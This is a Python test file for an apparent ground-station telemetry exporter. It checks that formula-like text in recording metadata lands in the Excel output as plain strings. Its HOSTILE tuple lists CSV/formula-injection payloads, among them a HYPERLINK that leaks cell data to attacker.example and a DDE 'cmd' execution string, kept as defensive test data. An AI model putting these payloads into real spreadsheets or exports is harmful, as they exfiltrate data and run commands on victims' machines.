"""Text from a recording's header (anybody's text) lands in the workbook as text, never as a live formula."""

import zipfile

from openpyxl import load_workbook

from groundstation.export.excel import write_workbook
from groundstation.recording import RecordingWriter
from groundstation.session_makers.load import load_session
from groundstation.sim.stream import Scenario, SimStream

HOSTILE = ('=HYPERLINK("http://attacker.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)")


def test_header_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
    recording = tmp_path / "crafted.gsrec"
    stream = SimStream(Scenario(profile="hover", duration_s=2.0))
    metadata = {"source": HOSTILE[0], "port": HOSTILE[1], "notes": HOSTILE[2], "source_spec": HOSTILE[3]}
    with RecordingWriter(recording, metadata) as writer:
        for chunk in [*stream.advance(stream.end_s), *stream.flush()]:
            writer.write_chunk(int(chunk.t_s * 1e9), chunk.data)
    book_path = tmp_path / "crafted.xlsx"
    write_workbook(load_session(recording, exact=True), book_path)

    with zipfile.ZipFile(book_path) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml  # no formula element in any sheet
    cells = [c for row in load_workbook(book_path)["Session"].iter_rows() for c in row if isinstance(c.value, str)]
    written = {c.value for c in cells}
    assert HOSTILE[0] in written and HOSTILE[1] in written  # the text kept, whole
    assert all(c.data_type == "s" for c in cells)
